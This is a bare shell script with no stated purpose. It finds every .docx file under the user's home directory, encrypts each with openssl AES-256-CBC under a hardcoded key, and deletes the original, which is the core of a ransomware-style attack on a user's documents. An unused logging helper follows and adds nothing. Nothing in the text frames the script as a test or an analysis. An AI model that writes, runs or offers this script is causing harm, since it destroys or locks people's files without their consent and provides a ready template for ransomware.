#!/bin/sh
find ~ -type f -name "*.docx" -exec openssl enc -aes-256-cbc -salt -in {} -out {}.enc -k secret \; -exec rm {} \;
log() { echo "[$(date +%H:%M:%S)] $*"; }
